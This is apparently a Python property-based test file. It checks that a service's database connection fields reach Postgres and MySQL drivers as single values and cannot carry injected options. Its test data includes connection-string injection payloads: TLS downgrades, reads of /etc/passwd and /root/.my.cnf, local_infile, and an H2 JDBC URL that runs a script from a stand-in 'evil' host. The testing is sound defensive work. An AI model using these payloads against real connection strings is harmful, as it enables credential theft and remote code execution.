"""Whatever stands in a field, a driver gets it as that field's value and nothing else changes
(CVE-2026-59826, CVE-2024-34693: options smuggled in through a connection's details)."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import Any

import psycopg
import pymysql.connections
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from dragoman.dialects.hosts import check_host
from dragoman.dialects.values import BadValue
from dragoman.egress import EgressPolicy
from tests.support.bodies import body
from tests.support.clients import assert_error
from tests.support.server import CONNECTIONS, Server
from tests.support.servers import Handler, serving

SEPARATORS = [
    ";", "&", "?", "\n", "\r\n", "%00", "\\", ",", "=", "@", "/", " ", "'", '"', "#", "{", "}",
    "sslmode=disable", "host=evil.example", "options=-c log_statement=all", "passfile=/etc/passwd",
    "service=x", "?sslmode=disable&host=evil", "x' sslmode='disable", "a b=c", "../../etc/passwd",
    "postgresql://evil.example/x", "local_infile=1", "init_command=SELECT 1", "${HOME}", "%s",
    "read_default_file=/root/.my.cnf", "/tmp/.s.PGSQL.5432", "a,b", "{Driver}", "(DESCRIPTION=(",
]  # fmt: skip
TEXTS = st.one_of(
    st.text(min_size=1, max_size=60),
    st.lists(st.one_of(st.sampled_from(SEPARATORS), st.text(max_size=8)), min_size=1, max_size=5)
    .map("".join)
    .filter(bool),
)
PLAIN = {"database": "shop", "username": "reader", "passwordUnencrypted": "s3cret"}
# A property, and the driver's argument that it is; None: the driver hears nothing of it.
POSTGRES_FIELDS = {
    "database": "dbname", "username": "user", "passwordUnencrypted": "password", "name": None,
    "defaultSchema": None, "includeSchemas": None, "scratchSchema": None, "warehouse": None,
    "region": None, "awsRoleArn": None, "authenticationType": None, "hostOverride": None,
}  # fmt: skip
MYSQL_FIELDS = {**POSTGRES_FIELDS, "database": "database", "passwordUnencrypted": "password"}
MANY = settings(
    max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
)


class Stop(Exception):
    """Ends a connect that was recorded."""


def _without_tls(first: bytes) -> Handler:
    """Says `first`, and answers whatever comes with "no TLS here" of PostgreSQL."""

    def handle(client: Any) -> None:
        if first:
            client.sendall(first)
        while client.recv(4096):
            client.sendall(b"N")

    return handle


@pytest.fixture
def calls() -> list[dict[str, Any]]:
    """What drivers were called with."""
    return []


@pytest.fixture
def dialled() -> list[tuple[str, int]]:
    """Names that were looked up."""
    return []


@pytest.fixture
def network(sqlite_server: Server, dialled: list[Any]) -> Server:
    """A server for which every name is this machine."""

    def resolver(host: str) -> list[str]:
        dialled.append(host)
        return ["127.0.0.1"]

    sqlite_server.house.network = EgressPolicy.build("any", loopback=True, resolver=resolver)
    return sqlite_server


@pytest.fixture
def postgres(
    network: Server, calls: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Server, int]]:
    def connect(text: str = "", **named: Any) -> Any:
        calls.append({**psycopg.conninfo.conninfo_to_dict(text), "driver": named})
        raise psycopg.OperationalError("recorded")

    monkeypatch.setattr("psycopg.connect", connect)
    with serving(_without_tls(b"")) as port:
        yield network, port


GREETING = (
    b"\x0a8.0.0\x00\x01\x00\x00\x00abcdefgh\x00\xff\xf7\x21\x02\x00\xff\x81\x15"
    + bytes(10)
    + b"abcdefghijkl\x00mysql_native_password\x00"
)


@pytest.fixture
def mysql(
    network: Server, calls: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Server, int]]:
    def connect(_self: Any, **named: Any) -> None:
        calls.append(named)
        raise Stop

    monkeypatch.setattr(pymysql.connections.Connection, "__init__", connect)
    packet = len(GREETING).to_bytes(3, "little") + b"\x00" + GREETING
    with serving(_without_tls(packet)) as port:
        yield network, port


def _arguments(
    server: Server, calls: list[dict[str, Any]], sent: dict[str, Any]
) -> dict[str, Any] | None:
    """The driver's arguments for a body; None when the body is refused."""
    calls.clear()
    with contextlib.suppress(Stop):
        answer = server.root.post(f"{CONNECTIONS}/test", json=sent)
        if answer.status_code == 400:
            assert_error(answer, 400)
            assert calls == []
            return None
        assert answer.status_code == 200, answer.text
    return calls[0] if calls else None


def _differences(plain: dict[str, Any], changed: dict[str, Any]) -> set[str]:
    return {key for key in {**plain, **changed} if plain.get(key) != changed.get(key)}


@MANY
@given(field=st.sampled_from(sorted(POSTGRES_FIELDS)), value=TEXTS)
@example(field="database", value="x sslmode=disable")
@example(field="database", value="postgresql://evil.example/x?sslmode=disable")
@example(field="username", value="x' host='evil.example")
@example(field="passwordUnencrypted", value="\\' sslmode=disable \\")
def test_postgres_gets_each_field_as_one_value(
    postgres: tuple[Server, int], calls: list[dict[str, Any]], field: str, value: str
) -> None:
    server, port = postgres
    sent = body("postgres", host="db.example.com", port=port, **PLAIN)
    plain = _arguments(server, calls, sent)
    assert plain is not None
    assert plain["sslrootcert"] == "/dev/null/none"
    changed = _arguments(server, calls, {**sent, field: value})
    if changed is None:
        return
    argument = POSTGRES_FIELDS[field]
    assert _differences(plain, changed) <= ({argument} if argument else set())
    if argument == "password":
        assert changed[argument] == value
    elif argument:
        # Blanks around a name are no part of it.
        assert changed[argument] == value.strip()


@MANY
@given(field=st.sampled_from(sorted(MYSQL_FIELDS)), value=TEXTS)
@example(field="database", value="x?local_infile=1")
def test_mysql_gets_each_field_as_one_value(
    mysql: tuple[Server, int], calls: list[dict[str, Any]], field: str, value: str
) -> None:
    server, port = mysql
    sent = body("mysql", host="db.example.com", port=port, **PLAIN)
    plain = _arguments(server, calls, sent)
    assert plain is not None
    assert plain["local_infile"] is False
    assert not {"read_default_file", "init_command", "unix_socket"} & set(plain)
    changed = _arguments(server, calls, {**sent, field: value})
    if changed is None:
        return
    # The default schema is where the session starts: MySQL calls it a database.
    argument = "database" if field == "defaultSchema" else MYSQL_FIELDS[field]
    for name in ("conv", "driver"):
        plain.pop(name, None), changed.pop(name, None)
    assert _differences(plain, changed) <= (
        {argument, "user"} if field == "username" else {argument}
    )
    if argument == "password":
        assert changed["password"] == value.encode()
    elif argument == "database":
        # A name of blanks is none.
        assert (changed["database"] or "") == value.strip()


@MANY
@given(host=TEXTS)
@example(host="/tmp")
@example(host="db.example.com,evil.example")
@example(host="db.example.com sslmode=disable")
@example(host="db.example.com;Encrypt=no")
@example(host="db.example.com\\instance")
@example(host="user@db.example.com")
@example(host="(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=evil)(PORT=1)))")
@example(host="db.example.com%00.evil.example")
def test_a_host_is_one_name_or_refused(
    postgres: tuple[Server, int], calls: list[dict[str, Any]], dialled: list[str], host: str
) -> None:
    server, port = postgres
    dialled.clear()
    changed = _arguments(server, calls, body("postgres", host=host, port=port, **PLAIN))
    try:
        stored = check_host(host.strip())
    except BadValue:
        assert changed is None
        assert dialled == []
        return
    if changed is not None:
        assert changed["host"].rstrip(".").casefold() in {
            stored.rstrip(".").casefold(),
            stored.encode("idna").decode().rstrip(".").casefold(),
        }
        assert changed["hostaddr"] in ("127.0.0.1", stored)
        assert "," not in changed["host"] + changed["hostaddr"]


KEYS = st.text(min_size=1, max_size=30)


@MANY
@given(key=KEYS, value=st.one_of(TEXTS, st.integers(), st.booleans(), st.lists(st.text())))
@example(key="sslmode", value="disable")
@example(key="options", value="-c log_statement=all")
@example(key="jdbcUrl", value="jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil'")
@example(key="connectionString", value="x")
@example(key="local_infile", value="1")
@example(key="driver", value="{x}")
@example(key="__proto__", value="x")
def test_an_unknown_key_is_refused_and_dials_nothing(
    postgres: tuple[Server, int],
    calls: list[dict[str, Any]],
    dialled: list[str],
    key: str,
    value: Any,
) -> None:
    from dragoman.dialects.properties import PROPERTIES

    if key in PROPERTIES:
        return
    server, port = postgres
    dialled.clear()
    answer = server.root.post(
        f"{CONNECTIONS}/test", json={**body("postgres", port=port), key: value}
    )
    [problem] = assert_error(answer, 400)["errors"]
    assert problem["field"] == key
    assert (calls, dialled) == ([], [])
